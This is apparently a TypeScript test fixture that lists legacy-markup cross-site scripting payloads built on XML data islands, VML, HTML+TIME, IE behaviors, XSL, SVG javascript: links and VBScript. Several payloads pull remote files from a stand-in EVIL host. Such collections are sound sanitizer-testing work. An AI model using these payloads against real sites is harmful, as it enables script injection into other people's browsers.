import { EVIL, HIT } from './marks.ts';

/** Languages that browsers once ran inside HTML; a reader may still hand them on, or choke on them. */
export const OLD_LANGUAGES: readonly string[] = [
  `<xml id=x><a><b>&lt;img src=x onerror=${HIT}&gt;</b></a></xml><label dataformatas=html datasrc=#x datafld=b>x</label>`,
  `<xml src="${EVIL}/x.htc" id=y></xml><span datasrc=#y datafld=c dataformatas=html></span>`,
  `<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=dataurl value="${EVIL}/x"></object>`,
  `<!--[if vml]><v:vmlframe xmlns:v="urn:schemas-microsoft-com:vml" src="${EVIL}/x.vml#x" /><![endif]-->`,
  `<v:line xmlns:v="urn:schemas-microsoft-com:vml" href="javascript:${HIT}" strokecolor=white strokeweight=1000px />`,
  `<t:set xmlns:t="urn:schemas-microsoft-com:time" targetelement=x attributename=innerHTML to="&lt;img src=x onerror=${HIT}&gt;" />`,
  `<t:animate style="behavior:url(#default#time2)" onbegin=${HIT} begin=0 dur=1 />`,
  `<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event=load type="text/javascript">${HIT}</handler></svg>`,
  `<ev:listener event=load handler="javascript:${HIT}" observer=x />`,
  `<?xml-stylesheet type="text/xsl" href="${EVIL}/x.xsl"?><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" />`,
  `<?import namespace=t implementation="#default#time2"?><t:timer ontimer=${HIT} />`,
  `<event-source src="${EVIL}/events" onload=${HIT}></event-source>`,
  `<a folder="javascript:${HIT}" style="behavior:url(#default#AnchorClick)">x</a>`,
  `<svg><mask id=m><image href="javascript:${HIT}" /></mask><cursor href="javascript:${HIT}" /><tref href="javascript:${HIT}" /></svg>`,
  `<input pattern="^((a+.)a)+$" value="${'a'.repeat(60)}" dirname=${HIT} autofocus oninvalid=${HIT}>`,
  `<div draggable=true ondragstart="event.dataTransfer.setData('text/html','&lt;img src=x onerror=${HIT}&gt;')">x</div>`,
  `<script for=window event=onload>${HIT}</script><script language=vbscript>${HIT}</script>`,
  `<selectedcontent><img src=x onerror=${HIT}></selectedcontent><select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${HIT}></select>`,
];
